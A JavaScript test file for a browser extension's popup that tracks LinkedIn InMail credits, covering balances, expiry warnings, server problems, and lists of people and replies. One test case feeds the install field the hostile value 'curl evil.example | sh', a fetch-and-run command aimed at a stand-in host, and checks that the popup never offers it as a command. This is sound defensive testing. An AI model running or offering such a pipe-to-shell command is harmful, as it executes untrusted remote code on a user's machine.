// What each section of the popup shows. First of all: nothing that contradicts the number.

import assert from "node:assert/strict";
import { test } from "node:test";

import { local, reset } from "./chrome.js";
import { accountOf, storedOf } from "./fixtures.js";
const { badge } = await import("../../extension/core/show/badge.js");
const { readView } = await import("../../extension/core/show/view.js");
const { newEntry } = await import("../../extension/core/store/outbox.js");
const { contextOf } = await import("../../extension/popup/states/context.js");
const { awaitingState } = await import("../../extension/popup/states/awaiting.js");
const { balanceState } = await import("../../extension/popup/states/balance.js");
const { baseOf, initialUi } = await import("../../extension/popup/states/base.js");
const { elsewhereState } = await import("../../extension/popup/states/elsewhere.js");
const { headerState } = await import("../../extension/popup/states/header.js");
const { listFormState } = await import("../../extension/popup/states/listform.js");
const { logState } = await import("../../extension/popup/states/log.js");
const { nextState } = await import("../../extension/popup/states/next.js");
const { lossState, notesState } = await import("../../extension/popup/states/notices.js");
const { observedState } = await import("../../extension/popup/states/observed.js");
const { needsYouState } = await import("../../extension/popup/states/outbox.js");
const { pageState } = await import("../../extension/popup/states/page.js");
const { problemState, refusalsState, waitingState } = await import("../../extension/popup/states/problem.js");
const { questionsState } = await import("../../extension/popup/states/questions.js");
const { sentState } = await import("../../extension/popup/states/sent.js");

const NOW = new Date("2026-11-26T12:00:00Z");
const HOUR_MS = 3_600_000;
const DAY_MS = 24 * HOUR_MS;
const ahead = (days) => new Date(NOW.getTime() + days * DAY_MS).toISOString();

const ELSEWHERE = {
  at: NOW.toISOString(),
  composer: "none",
  product: null,
  person: null,
  isClear: true,
  cost: "unknown",
  balance: null,
  degree1: false,
};
const KAI = { name: "Kai Example", profileUrl: "https://www.linkedin.com/in/kai-example" };
const PROFILE = { ...ELSEWHERE, product: "premium", person: KAI };
const COMPOSER = { ...PROFILE, composer: "read", cost: "credit" };

/** A summary in which all credits but `kept` are lost after some days, as the server computes it. */
function losing(days, { balance = 12, kept = 0, reason = "expire", ...fields } = {}) {
  const credits = balance - kept;
  return {
    as_of: NOW.toISOString(),
    period: { start: "2026-11-01T00:00:00Z" },
    balance,
    used: 25 - balance,
    lots: [{ granted_at: "2026-11-01T00:00:00Z", left: balance }],
    next_loss: { at: ahead(days), credits, value: { amount_minor: 320 * credits, currency: "EUR" } },
    pace: { expected: 20 },
    timeline: [
      { at: ahead(days), reason, credits: -credits, balance: kept },
      { at: ahead(days), reason: "grant", credits: 25, balance: kept + 25 },
    ],
    ...fields,
  };
}

const person = (name, links = []) => ({
  id: `person-${name}`,
  name,
  first_name: name,
  links,
  company: "Sample Ltd",
  headline: null,
  do_not_contact: false,
});
const target = (name, fields = {}) => ({
  id: `target-${name}`,
  state: "ready",
  person: person(name, [`https://www.linkedin.com/in/${name.toLowerCase()}-example`]),
  account: null,
  purpose: null,
  note: null,
  due: null,
  planned_for: null,
  planned_at: null,
  held_until: null,
  created_at: "2026-11-03T09:00:00Z",
  copy: null,
  ...fields,
});
const listOf = (...next) => ({ next, names: next.length, ready: next.length, held: 0, today: 0, sent_today: 0 });

const awaited = (name, days) => ({
  id: `inmail-${name}`,
  recipient: { name, profile_url: null },
  sent_at: ahead(-3),
  outcome: "pending",
  cost: 1,
  answer_by: ahead(days),
  returns_credit: true,
});

/**
 * The context of a popup.
 * @param {object} scene `summary`, `account`, `page`, `ui`, `entries`, and whatever else is stored
 */
async function popup({ summary = losing(40), account, page = ELSEWHERE, ui = {}, entries = [], ...stored } = {}) {
  reset();
  await local.set({
    server: { address: "http://127.0.0.1:8425", token: "t", deviceId: "d", demo: false, id: "here", secret: null },
    connection: { state: "ok", since: NOW.toISOString(), detail: "", retryAt: null, tries: 0 },
    accounts: [accountOf(account)],
    currentAccount: "a",
    "summary/a": storedOf({ as_of: NOW.toISOString(), ...summary }),
    ...Object.fromEntries(entries.map((entry) => [`outbox/${entry.id}`, entry])),
    ...stored,
  });
  const open = { ...initialUi(), ...ui };
  const view = await readView(NOW);
  return contextOf(baseOf(view, { page, shortcut: "Alt+Shift+L" }, { ui: open, paint() {} }, NOW));
}

const away = (state) => ({
  connection: { state, since: NOW.toISOString(), detail: "", retryAt: ahead(1 / 24), tries: 1 },
});
const inmail = (name, fields = {}) => {
  const body = { recipient: { name }, sent_at: NOW.toISOString(), cost: 1, source: "popup" };
  return { ...newEntry("a", { kind: "inmail", body }, NOW), ...fields };
};
const numbersIn = (words) => (words.match(/\d+/g) ?? []).map(Number);

// ---- Nothing contradicts the number ----

for (const days of [0.5, 2.5, 6.5, 40]) {
  for (const reserve of [0, 5, 30]) {
    for (const connection of ["ok", "server_off"]) {
      test(`${days} days before a loss, ${reserve} in reserve, ${connection}: every number fits the balance`, async () => {
        for (const sentHere of [0, 1, 12]) {
          const context = await popup({
            summary: losing(days, { targets: listOf(target("Kai"), target("Robin")) }),
            account: { reserve },
            entries: Array.from({ length: sentHere }, () => inmail("Robin Sample")),
            ...(connection === "ok" ? {} : away(connection)),
          });
          const { balance, bar, facts, next } = balanceState(context);
          assert.equal(balance, 12 - sentHere);
          assert.equal(facts.split(" · ")[0], "left of 25");
          const [used, unlogged = 0] = numbersIn(bar.words);
          assert.equal(used + unlogged + balance, 25);
          assert.match(badge(context.view, NOW).title, new RegExp(`My seat: ${balance} of 25 credits left`));

          const loss = lossState(context);
          const isLosing = days < 7 && reserve < balance;
          assert.equal(loss !== null, isLosing);
          if (loss) {
            assert.equal(numbersIn(loss.words)[0], balance);
            assert.match(next, /^Send \*/);
          }
          if (days > 7 && reserve < balance) assert.match(next, /to use them by \*4\sJan\*$/);
          assert.equal(nextState(context).card === null, balance === 0);
          if (balance) assert.match(nextState(context).names, new RegExp(`^${balance} credits?( expires?)?, 2 names$`));
          else assert.match(nextState(context).names, /2 people are ready$/);
          const compared = observedState(context);
          if (connection === "ok") assert.equal(compared.words, `Does LinkedIn show ${balance} too?`);
          else assert.equal(compared, null);
        }
      });
    }
  }
}

test("box and badge speak one language: plain, amber, red", async () => {
  const steps = [];
  for (const days of [40, 6.5, 0.5]) {
    const context = await popup({ summary: losing(days) });
    steps.push([lossState(context)?.isUrgent, badge(context.view, NOW).text]);
  }
  assert.deepEqual(steps, [
    [undefined, "12"],
    [false, "12!"],
    [true, "12!"],
  ]);
});

test("the box says what is lost and what it is worth, and the days left end on its day", async () => {
  const context = await popup({ summary: losing(4, { kept: 2 }) });
  const { isUrgent, reason, value, words } = lossState(context);
  assert.deepEqual({ isUrgent, reason, value }, { isUrgent: false, reason: "expire", value: "€32" });
  assert.match(words, /^10 expire Sun\s29\sNov$/);
  assert.match(balanceState(context).facts, / · 4 days left$/, "Thu 26 to Sun 29");
});

test("credits in reserve are no loss", async () => {
  const context = await popup({ summary: losing(2), account: { reserve: 12 } });
  assert.equal(lossState(context), null);
  assert.equal(balanceState(context).next, "Kept in reserve");
});

test("at the limit nothing is said to expire: first what makes room, within a week how many to send", async () => {
  const full = (days) => losing(days, { reason: "forfeit", balance: 50, allotment: 50, used: 0 });
  const far = await popup({ summary: full(20), account: { cap: 50 } });
  assert.match(balanceState(far).next, /^Each InMail by \*15\sDec\* makes room/);
  assert.equal(lossState(far), null);
  const near = await popup({ summary: full(4), account: { cap: 50 } });
  assert.match(balanceState(near).next, /^Send \*\d+(–\d+)? a day\*$/);
  assert.match(lossState(near).words, /no room for .*Mon\s30\sNov/);
  for (const context of [far, near]) {
    assert.doesNotMatch(JSON.stringify([balanceState(context), lossState(context)]), /expire [^"]*Nov|days left/);
  }
});

test("numbers add up where credits were used before Inkeeper", async () => {
  const context = await popup({ summary: losing(40, { used: 0 }), account: { opened_at: NOW.toISOString() } });
  assert.equal(balanceState(context).bar.words, "13 used before Inkeeper");
});

test("more than a month's credits are not shown as part of a month's", async () => {
  const context = await popup({ summary: losing(40, { balance: 60, used: 0 }), account: { cap: 150 } });
  assert.equal(balanceState(context).facts, "left · limit 150 · 40 days left");
});

test("a number that is too old has no pace, no bar, and no comparison", async () => {
  const context = await popup({ summary: losing(40, { as_of: ahead(-70) }), ...away("server_off") });
  const { age, bar, isStale, next } = balanceState(context);
  assert.deepEqual({ bar, isStale, next }, { bar: null, isStale: true, next: "" });
  assert.match(age, /ago/);
  assert.equal(observedState(context), null);
  assert.equal(badge(context.view, NOW).text, "?");
});

// ---- The sections ----

test("the menu has every account with its own number, the current one marked", async () => {
  const accounts = [accountOf(), accountOf({ id: "b", name: "Hiring" }), accountOf({ id: "c", name: "New" })];
  const context = await popup({ accounts, "summary/b": storedOf({ balance: 3 }), ui: { menu: true } });
  assert.deepEqual(
    headerState(context).menu.map(({ count, isCurrent, name }) => [name, count, isCurrent]),
    [
      ["My seat", 12, true],
      ["Hiring", 3, false],
      ["New", "–", false],
    ],
  );
  assert.deepEqual(headerState(await popup()).menu, []);
});

test("the page of people is linked only if the server has a list", async () => {
  assert.deepEqual(headerState(await popup()).pages, ["history", "report", "settings"]);
  const context = await popup({ summary: losing(40, { targets: listOf() }) });
  assert.deepEqual(headerState(context).pages, ["people", "history", "report", "settings"]);
  assert.deepEqual(headerState(await popup({ accounts: [] })).pages, []);
});

test("one warning is shown, the gravest; all once they are opened; none without room", async () => {
  const warnings = [
    { code: "low_balance", severity: "info", until: null },
    { code: "cancelling", severity: "urgent", until: ahead(30) },
  ];
  const codes = async (ui) => {
    const { hidden, notes } = notesState(await popup({ summary: losing(40, { warnings }), ui }));
    return [notes.map(({ code }) => code), hidden];
  };
  assert.deepEqual(await codes({}), [["cancelling"], 1]);
  assert.deepEqual(await codes({ room: 1 }), [["cancelling"], 1]);
  assert.deepEqual(await codes({ room: 0 }), [[], 2]);
  assert.deepEqual(await codes({ room: 0, allNotices: true }), [["cancelling", "low_balance"], 0]);
});

test("the box's loss is not repeated as a warning", async () => {
  const context = await popup({ summary: losing(4) });
  assert.deepEqual(
    context.warnings.map(({ code }) => code),
    ["expiring"],
  );
  assert.equal(notesState(context), null);
});

for (const [state, step] of [
  ["server_off", { command: "make run" }],
  ["version_mismatch", { command: "git pull && make run" }],
  ["unauthorized", { words: "Connect again…", place: "pair" }],
  ["other_program", { words: "Check the address…", place: "server" }],
]) {
  test(`${state}: one next step, the number stays, the list of answers makes room`, async () => {
    const context = await popup({ summary: losing(40, { awaiting: [awaited("Kai", 9)] }), ...away(state) });
    assert.deepEqual(problemState(context).step, step);
    assert.equal(problemState(context).isAlone, false);
    assert.equal(balanceState(context).balance, 12);
    assert.equal(balanceState(context).isStale, true);
    assert.equal(awaitingState(context), null);
    assert.equal(observedState(context), null);
  });
}

for (const [installed, start, update] of [
  [undefined, "make run", "git pull && make run"],
  ["folder", "make run", "git pull && make run"],
  ["package", "inkeeper run", null],
  ["curl evil.example | sh", "make run", "git pull && make run"],
]) {
  test(`the commands for a server that was installed as ${installed}`, async () => {
    const commandIn = async (state) => {
      const server = { address: "http://127.0.0.1:8425", token: "t", deviceId: "d", demo: false, installed };
      const { step, words } = problemState(await popup({ server, ...away(state) }));
      assert.equal(/folder/.test(words), installed !== "package");
      return step.command;
    };
    assert.deepEqual([await commandIn("server_off"), await commandIn("version_mismatch")], [start, update]);
  });
}

test("without an account the next step is the set-up, and nothing else is shown", async () => {
  const context = await popup({ accounts: [], page: PROFILE });
  const { isAlone, step } = problemState(context);
  assert.deepEqual([isAlone, step.place], [true, ""]);
  for (const state of [balanceState, lossState, notesState, pageState, nextState, logState, awaitingState]) {
    assert.equal(state(context), null);
  }
});

test("when everything works, no problem is shown", async () => {
  const context = await popup();
  for (const state of [problemState, refusalsState, waitingState, needsYouState, questionsState, elsewhereState]) {
    assert.equal(state(context), null);
  }
});

test("a summary that the server refuses is named with its account", async () => {
  const context = await popup({ problems: { a: { code: "unknown", detail: "Broken rules.", status: 500 } } });
  const { failed, isBroken } = refusalsState(context);
  assert.deepEqual([failed.length, failed[0].id, isBroken], [1, "a", false]);
  assert.match(failed[0].words, /My seat.*Inkeeper has a problem/);
});

test("a page's balance is offered, and not asked for again below", async () => {
  const context = await popup({ page: { ...COMPOSER, balance: 9 } });
  const { always, offered } = pageState(context);
  assert.deepEqual([offered.balance, offered.computed, offered.isSame, offered.at], [9, 12, false, NOW.toISOString()]);
  assert.equal(always.isOn, false);
  assert.equal(observedState(context), null);
  assert.equal(pageState(await popup({ page: { ...COMPOSER, balance: 12 } })).offered.isSame, true);
  assert.equal(pageState(await popup({ page: PROFILE })), null);
});

test("the next person has a button only for what there is", async () => {
  const copy = { text: "t", version: 1, subject: "Hello", body: "Hi", missing: [] };
  const targets = listOf(target("Robin", { copy, purpose: "follow_up" }));
  const { card } = nextState(await popup({ summary: losing(40, { targets }) }));
  assert.equal(card.link, "https://www.linkedin.com/in/robin-example");
  assert.deepEqual(card.target.copies, { text: "t", subject: "Hello", body: "Hi", isEnabled: true });
  assert.deepEqual([card.target.canClose, card.target.canMark, card.target.missing], [true, true, ""]);
  const lacking = listOf(target("Robin", { copy: { ...copy, missing: ["company"] }, person: person("Robin") }));
  const other = nextState(await popup({ summary: losing(40, { targets: lacking }) })).card;
  assert.equal(other.link, null);
  assert.deepEqual([other.target.copies.subject, other.target.copies.isEnabled], ["", false]);
  assert.match(other.target.missing, /company/);
});

test("a person planned for later is not the next one; a skipped one can be shown again", async () => {
  const later = listOf(target("Robin", { state: "planned", planned_for: "2026-11-28" }));
  const planned = nextState(await popup({ summary: losing(40, { targets: later }) }));
  assert.equal(planned.card, null);
  assert.equal(planned.none.isSkipped, false);
  assert.match(planned.none.words, /Robin.*Sat\s28\sNov/);
  const skipped = { "target-Robin": Math.floor(NOW.getTime() / DAY_MS) };
  const state = nextState(await popup({ summary: losing(40, { targets: listOf(target("Robin")) }), skipped }));
  assert.deepEqual([state.card, state.none.isSkipped], [null, true]);
});

test("one click logs the page's person; the words name the cost", async () => {
  const { card, form, question, row } = logState(await popup({ page: COMPOSER }));
  assert.equal(card.person.name, "Kai Example");
  assert.deepEqual(card.button, {
    cost: 1,
    isCostRead: true,
    isSecond: false,
    isQuiet: false,
    facts: "1 credit · Alt+Shift+L",
  });
  assert.deepEqual([form, question, row.isMain, row.isOpen], [null, null, false, false]);
});

test("without credits the button says so, and the click asks first", async () => {
  const summary = losing(40, { balance: 0 });
  const { card } = logState(await popup({ summary, page: COMPOSER }));
  assert.equal(card.button.facts, "no credits left · Alt+Shift+L");
  const asking = { wanted: { recipient: KAI, cost: 1 }, reasons: ["none_left"], sentAt: null, isForm: false };
  const asked = logState(await popup({ summary, page: COMPOSER, ui: { asking } }));
  assert.equal(asked.card.button, null);
  assert.equal(asked.question.lines[0].fact, "You have no credits left.");
  assert.deepEqual([asked.question.wanted.acceptDiscrepancy, asked.question.wanted.second], [true, false]);
});

test("an unanswered InMail to the person is named, and the button logs a second one", async () => {
  const recent = [
    {
      id: "i",
      recipient: { name: KAI.name, profile_url: KAI.profileUrl },
      sent_at: ahead(-1),
      outcome: "pending",
      cost: 1,
    },
  ];
  const { card, row } = logState(await popup({ summary: losing(40, { recent }), page: COMPOSER }));
  assert.match(card.pastWords, /yesterday 12:00 · no reply yet/);
  assert.deepEqual([card.button.isSecond, card.button.isQuiet], [true, true]);
  assert.deepEqual(row.result, { inmailId: "i", isOpen: false });
});

test("a contact of the first degree is not logged by one click", async () => {
  const context = await popup({ page: { ...COMPOSER, degree1: true } });
  assert.equal(logState(context).card, null);
  assert.match(pageState(context).degree1, /Kai Example/);
});

test("a page of another product's credits is explained, and its form starts without an account", async () => {
  const page = { ...COMPOSER, product: "recruiter" };
  const { card, form, obstacle } = logState(await popup({ page, ui: { form: true } }));
  assert.equal(card, null);
  assert.equal(obstacle.hook, "other-pool");
  assert.match(obstacle.noSeat, /Recruiter/);
  assert.equal(form.needsSeat, true);
  assert.deepEqual(
    form.seats.map(({ isChosen }) => isChosen),
    [false],
  );
});

test("away from a person the form's button is the main one, unless somebody is next", async () => {
  assert.equal(logState(await popup()).row.isMain, true);
  const context = await popup({ summary: losing(40, { targets: listOf(target("Robin")) }) });
  assert.deepEqual([logState(context).row.isMain, logState(context).row.isSomebodyElse], [false, true]);
});

test("somebody on the list is not offered for the list again, nor is anyone marked", async () => {
  const listed = await popup({ summary: losing(40, { targets: listOf(target("Kai")) }), page: PROFILE });
  assert.equal(logState(listed).row, null, "the buttons of the target need the space");
  assert.match(logState(listed).card.listed, /^On your list since/);
  const free = await popup({ summary: losing(40, { targets: listOf() }), page: PROFILE });
  assert.equal(logState(free).row.listed.name, "Kai Example");
  const found = {
    person: { ...person("Kai Example"), do_not_contact: true },
    target: null,
    last_inmail: null,
    inmails: 0,
  };
  const marked = await popup({ summary: losing(40, { targets: listOf() }), page: PROFILE, ui: { found } });
  assert.deepEqual([logState(marked).card.isMarked, logState(marked).row.listed], [true, null]);
});

test("the form of the list hides the log's, and is filled from the page", async () => {
  const ui = { adding: { name: "", profileUrl: null, at: NOW.toISOString() } };
  const context = await popup({ summary: losing(40, { targets: listOf() }), page: PROFILE, ui });
  assert.equal(logState(context), null);
  const { isNoPerson, link, name } = listFormState(context);
  assert.deepEqual({ isNoPerson, link, name }, { isNoPerson: false, link: KAI.profileUrl, name: KAI.name });
});

test("a question without a name or an account has no cost to choose, only the form", async () => {
  const question = { id: "q", accountId: "a", product: "premium", ...KAI, cost: 0, at: NOW.toISOString() };
  const costs = async (fields) =>
    questionsState(await popup({ questions: [{ ...question, ...fields }] })).questions[0].costs;
  assert.deepEqual(await costs({}), [0, 1]);
  assert.deepEqual(await costs({ name: "" }), []);
  assert.deepEqual(await costs({ accountId: null, product: "recruiter" }), []);
});

test("entries of another server can be sent only where there is an account and a connection", async () => {
  const entries = [inmail("Robin Sample", { accountId: "gone", serverId: "there" })];
  const { isAsked, send } = elsewhereState(await popup({ entries }));
  assert.deepEqual([isAsked, send !== ""], [true, true]);
  assert.equal(elsewhereState(await popup({ entries, ...away("server_off") })).send, "");
  const kept = [inmail("Robin Sample", { accountId: "gone", serverId: "there", isKept: true })];
  assert.equal(elsewhereState(await popup({ entries: kept })).isAsked, false);
});

test("what waits is listed while the server is away, and is counted in the number", async () => {
  const context = await popup({ entries: [inmail("Robin Sample")], ...away("server_off") });
  const { items } = sentState(context);
  assert.deepEqual([items.length, items[0].name, items[0].isWaiting], [1, "Robin Sample", true]);
  assert.match(items[0].words, /^today \d\d:\d\d$/, "that it waits is said above");
  assert.match(problemState(context).words, / 1 waiting to be saved\.$/);
  assert.doesNotMatch(problemState(context).words, /saved later/);
  assert.match(problemState(await popup(away("server_off"))).words, / What you log is kept here and saved later\.$/);
  assert.equal(balanceState(context).balance, 11);
  assert.equal(sentState(await popup({ entries: [inmail("Robin Sample")] })), null);
});

test("as many unanswered InMails as there is room for, the others behind a button", async () => {
  const awaiting = [awaited("Kai", 3), awaited("Robin", 9), awaited("Mika", 20)];
  const shown = async (ui, list = awaiting) => {
    const { hasMore, items, title } = awaitingState(await popup({ summary: losing(40, { awaiting: list }), ui }));
    return [title, items.map(({ name }) => name).join(" "), hasMore];
  };
  assert.deepEqual(await shown({ room: 3 }), ["Waiting for a reply (3)", "Kai Robin", true]);
  assert.deepEqual(await shown({ room: 2 }), ["Waiting for a reply (3)", "Kai", true]);
  assert.deepEqual(await shown({ room: 1 }), ["Waiting for a reply (3)", "", true]);
  assert.deepEqual(await shown({ room: 0 }), ["Waiting for a reply (3)", "", true]);
  assert.deepEqual(await shown({ room: 0, allAwaiting: true }), ["Waiting for a reply (3)", "Kai Robin Mika", true]);
  assert.deepEqual(await shown({ room: 3 }, awaiting.slice(0, 2)), ["Waiting for a reply (2)", "Kai Robin", false]);
  assert.deepEqual(await shown({ room: 1 }, awaiting.slice(0, 2)), ["Waiting for a reply (2)", "", true]);
});

test("of an unanswered InMail that returns no credit the day is shown, without the time", async () => {
  const sent = (sent_at) => ({ ...awaited("Kai", 3), returns_credit: false, sent_at });
  const list = [sent("2026-11-25T08:00:00Z"), sent("2026-10-30T08:00:00Z")];
  const { items } = awaitingState(await popup({ summary: losing(40, { awaiting: list }), ui: { room: 3 } }));
  assert.deepEqual(
    items.map(({ words }) => words),
    ["25 Nov", "30 Oct"].map((day) => day.replace(" ", "\u00a0")),
  );
});

test("a refusal offers what can mend it, and nothing else", async () => {
  const buttons = async (entry) => {
    const [state] = needsYouState(await popup({ entries: [entry] })).entries;
    return Object.keys(state).filter((key) => key.startsWith("can") && state[key]);
  };
  const refused = (code, status) => ({ state: "needs_you", problem: { code, detail: "No.", status } });
  const linked = inmail("Kai Example", refused("invalid", 422));
  linked.body.recipient.profile_url = KAI.profileUrl;
  assert.deepEqual(await buttons(inmail("Kai", refused("insufficient_credits", 409))), ["canAccept", "canEdit"]);
  assert.deepEqual(await buttons(linked), ["canEdit", "canDropLink"]);
  assert.deepEqual(await buttons(inmail("Kai", refused("internal", 500))), ["canEdit", "canRepeat"]);
  const removal = newEntry("a", { kind: "retract", target: null, inmailId: "i", body: { name: "Kai", cost: 1 } }, NOW);
  assert.deepEqual(await buttons({ ...removal, ...refused("not_found", 404) }), ["canRepeat"]);
});

test("after a comparison the user is not asked again for a day", async () => {
  const observed = (hours) => ({ balance: 12, at: new Date(NOW.getTime() - hours * HOUR_MS).toISOString() });
  const state = async (hours) => observedState(await popup({ summary: losing(40, { observed: observed(hours) }) }));
  assert.equal((await state(23)).isAsked, false);
  assert.match((await state(23)).words, /12/);
  assert.equal((await state(25)).words, "Does LinkedIn show 12 too?");
  assert.equal((await state(25)).oddAbove, 50);
});
